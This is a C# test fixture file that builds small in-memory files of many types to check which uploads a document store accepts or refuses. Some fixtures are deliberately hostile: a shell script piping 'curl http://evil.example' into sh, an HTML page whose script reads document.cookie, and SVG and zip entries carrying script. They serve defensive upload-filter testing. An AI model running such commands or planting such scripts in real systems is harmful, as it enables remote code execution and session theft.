using System.IO.Compression;
using System.Text;
using SkiaSharp;

namespace AfterSales.Tests.Features.Documents;

/// <summary>Real, minimal files of every kind the store must accept or refuse, built in memory.</summary>
public static class TestFiles
{
    public static byte[] Png(int width = 64, int height = 48) => Image(SKEncodedImageFormat.Png, width, height);

    public static byte[] Jpeg(int width = 64, int height = 48) => Image(SKEncodedImageFormat.Jpeg, width, height);

    public static byte[] WebP(int width = 64, int height = 48) => Image(SKEncodedImageFormat.Webp, width, height);

    public static byte[] Image(SKEncodedImageFormat format, int width, int height, SKColor? colour = null)
    {
        using var surface = SKSurface.Create(new SKImageInfo(width, height));
        surface.Canvas.Clear(colour ?? SKColors.SteelBlue);
        using var paint = new SKPaint { Color = SKColors.Orange };
        surface.Canvas.DrawRect(0, 0, width / 2f, height / 2f, paint);
        using var image = surface.Snapshot();
        using var data = image.Encode(format, 90);
        return data.ToArray();
    }

    public static byte[] Pdf(string text = "hello") => Encoding.ASCII.GetBytes($"%PDF-1.4\n% {text}\n%%EOF\n");

    public static byte[] Docx() => Ooxml("word/document.xml", "<w:document/>");

    public static byte[] Xlsx() => Ooxml("xl/workbook.xml", "<workbook/>");

    public static byte[] Pptx() => Ooxml("ppt/presentation.xml", "<p:presentation/>");

    /// <summary>An OLE compound file header followed by padding, as legacy .doc/.xls/.ppt begin.</summary>
    public static byte[] Ole() => [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[504]];

    public static byte[] PlainZip() => Zip(("readme.txt", "just a zip"));

    /// <summary>A zip that claims to be an Office package but has no Word, Excel or PowerPoint part.</summary>
    public static byte[] ContentTypesOnlyZip() => Zip(("[Content_Types].xml", "<Types/>"), ("evil/run.js", "alert(1)"));

    public static byte[] Script() => Encoding.UTF8.GetBytes("#!/bin/sh\ncurl http://evil.example | sh\n");

    public static byte[] Html() => Encoding.UTF8.GetBytes("<!DOCTYPE html><html><script>alert(document.cookie)</script></html>");

    public static byte[] Svg() => Encoding.UTF8.GetBytes("<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>");

    public static byte[] Exe() => [0x4D, 0x5A, 0x90, 0x00, 0x03, 0x00, 0x00, 0x00, 0x04, 0x00, 0x00, 0x00];

    /// <summary>A PNG cut off half-way: the right signature, but it does not decode.</summary>
    public static byte[] TruncatedPng() => Png(200, 200)[..60];

    public static byte[] Random(int size, int seed = 1)
    {
        var bytes = new byte[size];
        new Random(seed).NextBytes(bytes);
        // Starts like a PDF so that only the size decides.
        "%PDF-"u8.CopyTo(bytes);
        return bytes;
    }

    static byte[] Ooxml(string part, string xml) =>
        Zip(("[Content_Types].xml", "<?xml version=\"1.0\"?><Types/>"), ("_rels/.rels", "<Relationships/>"), (part, xml));

    static byte[] Zip(params (string Name, string Text)[] entries)
    {
        using var buffer = new MemoryStream();
        using (var zip = new ZipArchive(buffer, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var (name, text) in entries)
            {
                using var writer = new StreamWriter(zip.CreateEntry(name).Open());
                writer.Write(text);
            }
        }
        return buffer.ToArray();
    }

    public static byte[] Make(string kind) =>
        kind switch
        {
            "jpeg" => Jpeg(),
            "png" => Png(),
            "webp" => WebP(),
            "pdf" => Pdf(),
            "docx" => Docx(),
            "xlsx" => Xlsx(),
            "pptx" => Pptx(),
            "ole" => Ole(),
            "zip" => PlainZip(),
            "content-types-only-zip" => ContentTypesOnlyZip(),
            "script" => Script(),
            "html" => Html(),
            "svg" => Svg(),
            "exe" => Exe(),
            "empty" => [],
            "text" => Encoding.UTF8.GetBytes("plain text"),
            _ => throw new ArgumentOutOfRangeException(nameof(kind), kind, null),
        };
}
